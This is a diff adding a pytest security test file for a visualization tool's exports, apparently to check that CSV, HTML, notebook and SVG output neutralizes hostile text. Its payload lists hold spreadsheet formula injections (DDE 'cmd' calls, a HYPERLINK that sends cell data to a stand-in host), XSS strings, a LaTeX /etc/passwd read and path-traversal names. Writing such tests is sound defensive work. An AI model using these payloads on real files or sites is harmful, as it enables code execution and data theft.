@@ -1,0 +1,108 @@
+"""What leaves the Atlas with a stranger's words in it: tables, pages, notebooks, figures, names of files."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+
+from tests.viz_core.view.attention_groups import make_group
+from viz_core.view.components import COMPONENTS
+from viz_core.view.map_group import MapGroup
+from viz_core.view.page import view_page
+from viz_core.view.payload import View
+from viz_core.view.runnable import Recipe, write_notebook
+from viz_core.view.saving import write_view
+from viz_core.view.state import ViewState
+from viz_core.view.words import view_words
+
+pytestmark = pytest.mark.attack("exports")
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://elsewhere.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=1+1","=2+2',
+    "=1\n=2",
+)
+MARKUP = (
+    "</script><script>alert(1)</script>",
+    "<!--<script>",
+    "]]>",
+    "</title><img src=x onerror=alert(1)>",
+    "\"'`${alert(1)}",
+    "{{ 7*7 }}{0}%s",
+    "$x^{$ \\frac \\input{/etc/passwd}",
+    "&lt;&#0;&amp",
+    "\u202e\u2028\u2029\ufeff",
+    "\"\"\"\n'''\\",
+    "/etc/passwd\0.png",
+    "../../../x",
+)
+
+
+def group(text: str) -> MapGroup:
+    return make_group(2, 2, "self", query_tokens=(text, "b"), key_tokens=("a", text))
+
+
+@pytest.mark.skipif(shutil.which("node") is None, reason="no Node.js on this machine")
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_of_a_table_is_a_formula(text: str) -> None:
+    """The line that writes a cell, run by itself: what begins as a formula does is text, and one cell."""
+    code = (COMPONENTS / "attention_view" / "numbers.js").read_text(encoding="utf-8")
+    line = re.search(r"^const quote = .*$", code, flags=re.MULTILINE)
+    assert line is not None
+    script = f"{line[0]} process.stdout.write([{json.dumps(text)}, '-', 'cat'].map(quote).join(','))"
+    written = subprocess.run(["node", "-e", script], capture_output=True, check=True, timeout=60).stdout.decode()
+    (cells,) = csv.reader(io.StringIO(written, newline=""))
+    assert cells == [f"'{text}", "-", "cat"]
+
+
+@pytest.mark.parametrize("text", MARKUP)
+def test_a_saved_page_says_it_and_does_nothing(text: str) -> None:
+    page = view_page(View([group(text)], view_words()), ViewState("self", 0, 0), title=text)
+    assert page.count("<script") == view_page(View([group("x")], view_words()), ViewState("self", 0, 0)).count(
+        "<script"
+    )
+    assert "<img" not in page
+    data = re.search(r'id="data">([A-Za-z0-9+/=]*)</script>', page)
+    assert data, "nothing but base64 stands where the words are"
+
+
+@pytest.mark.parametrize("text", [*MARKUP, *FORMULAS])
+def test_a_saved_notebook_holds_it_as_a_literal(text: str) -> None:
+    recipe = Recipe(f"from viz_core import view\n\nrun = {text!r}")
+    notebook = json.loads(
+        write_notebook(View([group(text)], view_words()), ViewState("self", 0, 0), ViewState("self", 0, 0), recipe)
+    )
+    code = "\n".join("".join(cell["source"]) for cell in notebook["cells"] if cell["cell_type"] == "code")
+    values = [node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)]
+    assert text in values
+    calls = [node for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)]
+    assert {ast.unparse(call.func) for call in calls} <= {"view", "shown.open_head"}
+
+
+@pytest.mark.parametrize("text", [MARKUP[0], MARKUP[6], MARKUP[8], MARKUP[10]])
+def test_a_figure_writes_it_as_text(text: str, tmp_path: Path) -> None:
+    pytest.importorskip("matplotlib")
+    file = tmp_path / "figure.svg"
+    write_view(View([group(text)], view_words()), ViewState("self", 0, 0), file)
+    elements = list(ElementTree.parse(file).iter())
+    assert len(elements) > 10
+    assert not [element for element in elements if element.tag.endswith(("script", "foreignObject"))]
+    links = [value for element in elements for name, value in element.attrib.items() if name.endswith("href")]
+    assert all(link.startswith(("#", "data:image/png;")) for link in links)
+    assert not [name for element in elements for name in element.attrib if name.lower().startswith("on")]
